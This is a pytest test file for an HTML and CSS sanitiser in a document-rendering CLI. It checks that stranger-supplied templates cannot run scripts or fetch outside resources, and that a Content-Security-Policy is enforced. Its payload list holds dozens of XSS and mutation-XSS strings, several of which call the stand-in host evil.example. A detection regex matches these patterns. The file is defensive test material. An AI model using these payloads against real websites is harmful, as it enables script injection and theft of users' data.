"""Templates from a stranger: what they put into a page, or into its style, cannot act."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
import tinyhtml5

from sla_cli.documents.harmless import calm, cleaned, harmless
from sla_cli.documents.html import POLICY
from tests.examples import EXAMPLES, ROOT

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Sla

ACTING = re.compile(
    r"<script|<iframe|<object|<embed|<form|<base|<link|<meta|<template|<noscript|<math|<style|<!--"
    r"|<input|<button|<textarea|<frame|<use|<animate|<set|<foreignobject|<audio|<video|<portal"
    r"|[\s\"'/]on\w+\s*=|javascript:|vbscript:|data:text|srcset|\bping=|formaction|srcdoc"
    r"|evil\.example|target=|xlink|@import|expression\(|alert",
    re.IGNORECASE,
)
PIECES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='http://evil.example/x.png 2x' src='data:image/png;base64,AA=='>",
    "<img lowsrc=http://evil.example/x.png dynsrc=http://evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<a href='#x' ping=http://evil.example/ target=_top>x</a>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<link rel=import href=http://evil.example/>",
    "<form action=http://evil.example/><input name=a><button formaction=javascript:alert(1)>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=http://evil.example/></frameset>",
    "<object data=http://evil.example/></object>",
    "<embed src=http://evil.example/>",
    "<applet code=http://evil.example/></applet>",
    "<video src=http://evil.example/ poster=http://evil.example/></video>",
    "<audio src=http://evil.example/ autoplay></audio>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='http://evil.example/#a'/></svg>",
    "<svg><image href=http://evil.example/x.png /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x /></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=http://evil.example/></iframe></foreignObject></svg>",
    "<svg><style>@import url(http://evil.example/)</style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><rect fill='url(http://evil.example/#a)'/></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<style>@import 'http://evil.example/'; p { width: expression(alert(1)) }</style>",
    "<p style=\"background: url(http://evil.example/)\">x</p>",
    "<p style=\"background: u\\72l('//evil.example/')\">x</p>",
    "<p style=\"background: image-set('http://evil.example/' 1x)\">x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='-moz-binding: url(http://evil.example/)'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='http://evil.example/'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src=x"
    " onerror=alert(1)>'>",
    "<table background=http://evil.example/><tr><td background=http://evil.example/>x</table>",
    "<details ontoggle=alert(1) open>x</details>",
    "<portal src=http://evil.example/></portal>",
    "<p title='</body></html><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<p id=a class=b data-x='1' aria-label='c'>kept",
]  # fmt: skip


@pytest.mark.parametrize("piece", PIECES, ids=range(len(PIECES)))
def test_nothing_acts(piece: str) -> None:
    """What a browser makes of it has no element and no attribute that acts; nor has the text."""
    page = harmless(f"<html><head>{piece}</head><body>{piece}</body></html>", "", POLICY.strip())
    assert page.count(POLICY.strip()) == 1
    body = page.partition("<body")[2]
    shown = re.sub(r">[^<]*<|=\"[^\"]*\"", _but_addresses, f"{body}")
    assert not ACTING.search(shown), body
    for element in tinyhtml5.parse(page).iter():
        name = str(element.tag).rpartition("}")[2]
        assert name in KEPT, page
        for key, value in element.attrib.items():
            assert not str(key).lower().startswith(("on", "xlink", "{")), page
            if key in ("href", "src"):
                assert str(value).startswith(("#", "data:image/png;base64,")), page
            if key == "style" or name == "style":
                assert "evil" not in str(value)
    assert "evil" not in re.sub(r">[^<]*<", "><", page)


KEPT = {"html", "head", "meta", "title", "style", "body", "p", "img", "a", "svg", "text", "rect",
        "table", "tbody", "tr", "td"}  # fmt: skip


def _but_addresses(found: re.Match[str]) -> str:
    """Leave out words that are only shown; an address stays."""
    return found[0] if "=" in found[0][:1] else "><"


DATA = "p { background: url(data:image/png;base64,AA==) }"


@pytest.mark.parametrize(
    ("css", "left"),
    [
        ("p { color: teal }", "p { color: teal }"),
        ("@import 'x.css';", None),
        ("@\\69mport 'x.css';", None),
        ("p { background: url( http://evil.example/ ) }", None),
        ("p { background: url('//evil.example/') }", None),
        ("p { background: url(x.png) }", None),
        ("p { background: URL(data:text/html,x) }", None),
        (DATA, DATA),
        ("p { background: cross-fade(url(http://evil.example/)) }", None),
        ("@media print { p { background: image-set('http://evil.example/' 1x) } }", None),
        ("a { behavior: url(x.htc) }", None),
        ("p { content: '</style><script>' }", "p { content: '<\\/style><script>' }"),
        ("{" * 100_000, None),
    ],
    ids=range(13),
)  # fmt: skip
def test_a_style_fetches_nothing(css: str, left: str | None) -> None:
    done = calm(css)
    assert left is None or done == left
    assert not re.search(r"evil|@import|image-set|cross-fade|x\.png|x\.htc|text/html", done)
    assert "</" not in done


@pytest.mark.parametrize("form", ["long", "short"])
def test_a_copy_of_ours_comes_through_whole(sla: Sla, form: str) -> None:
    """Whatever our own templates write is allowed: only entities are written otherwise."""
    sla("templates", "copy", "all")
    for example in ("industrial.fr", "b2b-saas.en"):
        order = ("render", str(EXAMPLES / f"{example}.yaml"), "--form", form, "--to", "html")
        plain = sla(*order, "-o", "-").out
        again = sla(*order, "-o", "-", "--templates", "all").out
        assert _tree(again) == _tree(plain)


def _tree(page: str) -> list[object]:
    # The attributes of a drawing come in no namespace, those of its root are none of a browser's.
    return [
        (one.tag, sorted(one.attrib.items()), (one.text or "").split(), (one.tail or "").split())
        for one in tinyhtml5.parse(page).iter()
        if isinstance(one.tag, str)
    ]


@pytest.mark.usefixtures("minimal")
@pytest.mark.parametrize("own", [False, True])
def test_the_policy_comes_first_whatever_the_template_says(
    sla: Sla, tmp_path: Path, *, own: bool
) -> None:
    path = tmp_path / "ours" / "macros" / "html" / "page.j2"
    path.parent.mkdir(parents=True)
    if own:
        path.write_text(
            "{% macro page(head='') %}<!DOCTYPE html><html><head><script>alert(1)</script>"
            "<title>T</title></head><body>{{ caller() }}</body></html>{% endmacro %}",
            encoding="utf-8",
        )
    page = sla("render", "a.yaml", "--to", "html", "-o", "-", "--templates", "ours").out
    assert re.search(
        r"<head>\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src", page
    )
    assert page.count("Content-Security-Policy") == 1
    assert "alert" not in page


@pytest.mark.usefixtures("minimal")
def test_ours_alone_start_no_process_and_no_sanitiser(sla: Sla) -> None:
    code = (
        "import os, sys\nos.fork = None\nfrom sla_cli.cli.app import main\n"
        "assert main(['render', 'a.yaml', '--to', 'html', '-o', '-']) == 0\n"
        "assert not {'nh3', 'tinycss2', 'sla_cli.documents.apart'} & set(sys.modules)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, check=False,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_fields_are_let_through_where_a_form_is_made() -> None:
    field = '<input class="field" type="file" name="a" title="b" onfocus="c">'
    assert "<input" not in cleaned(field)
    assert 'type="text"' in cleaned(field, fields=True)
    assert "onfocus" not in cleaned(field, fields=True)


def test_the_preview_sends_the_policy_and_lets_its_own_script_alone_run() -> None:
    pytest.importorskip("starlette")
    from sla_cli.cli.preview import Preview

    preview = Preview("amiss")
    page = f"<html><head>\n{POLICY}</head><body><p>x</p></body></html>".encode()
    answers = [preview._with_script(page) for _ in range(2)]
    nonces = set()
    for answer in answers:
        policy = answer.headers["content-security-policy"]
        nonce = re.search(r"script-src 'nonce-([\w-]{20,})'", policy)
        assert nonce
        nonces.add(nonce[1])
        assert policy.startswith("default-src 'none'; ")
        for rule in ("connect-src 'self'", "frame-ancestors 'none'", "form-action 'none'"):
            assert rule in policy
        body = bytes(answer.body).decode()
        assert body.count("<script") == 1
        assert f'<script nonce="{nonce[1]}">' in body
        assert "http-equiv" not in body
    assert len(nonces) == 2
